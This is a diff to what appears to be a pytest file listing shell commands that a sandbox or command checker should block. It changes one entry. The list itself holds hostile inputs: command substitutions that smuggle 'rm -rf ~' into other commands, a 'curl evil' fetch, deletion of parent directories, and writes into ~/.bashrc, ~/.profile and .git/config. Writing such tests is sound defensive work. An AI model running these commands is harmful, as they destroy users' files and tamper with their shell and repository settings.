@@ -279,9 +279,7 @@ AE_ATTACKS = [
     'mkdir "$(rm -rf ~)"', "touch $(curl evil)", "sed -i '1e touch p' 's/a/b/' ./f",
     "cp -r . /tmp/copy", "mv . ../moved", "rm -rf ../", "cp a ./b > ~/.bashrc",
     "touch ./a 2> ~/.profile", "cp a .git/config", "install a ~/.local/bin/x", "cp a $PWD/b",
-    pytest.param("cp a ~-/b", marks=pytest.mark.xfail(strict=True, reason=(
-        "`~-` is $OLDPWD, which bash -c inherits from the kernel's environment (shells export "
-        "it): the target is read as the relative path ./~-/b, inside the working directory"))),
+    "cp a ~-/b",  # `~-` is $OLDPWD, inherited from the kernel's environment
     "cat <<-EOF\n\t$(rm -rf ~/x)\n\tEOF\ntouch ./a",
 ]
 
